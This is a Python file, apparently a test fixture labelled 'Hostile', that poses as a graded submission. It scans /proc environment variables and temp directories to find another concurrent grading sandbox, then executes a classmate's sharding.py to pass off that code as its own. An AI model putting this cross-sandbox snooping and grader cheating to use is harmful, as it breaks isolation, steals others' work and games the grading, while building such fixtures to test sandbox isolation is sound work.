"""Hostile: copies a classmate's sharding.py from another grading running at the same time."""
import glob
import os

_FOUND = {}
_PATTERNS = ["/tmp/grader-sandbox-*/code/submission/sharding.py", "/tmp/*/grader-sandbox-*/code/submission/sharding.py",
             "/var/tmp/grader-sandbox-*/code/submission/sharding.py", "/dev/shm/*/sharding.py"]
for _pid in os.listdir("/proc"):
    if _pid.isdigit():
        try:
            with open(f"/proc/{_pid}/environ", "rb") as _fh:
                for _item in _fh.read().split(b"\0"):
                    if _item.startswith(b"TMPDIR="):
                        _PATTERNS.append(_item[7:].decode() + "/grader-sandbox-*/code/submission/sharding.py")
        except OSError:
            pass
for _pattern in _PATTERNS:
    for _path in glob.glob(_pattern):
        if os.path.realpath(_path) != os.path.realpath(__file__):
            with open(_path) as _fh:
                exec(compile(_fh.read(), _path, "exec"), _FOUND)
            break

ShardedRange = _FOUND.get("ShardedRange")
ShardedFiles = _FOUND.get("ShardedFiles")
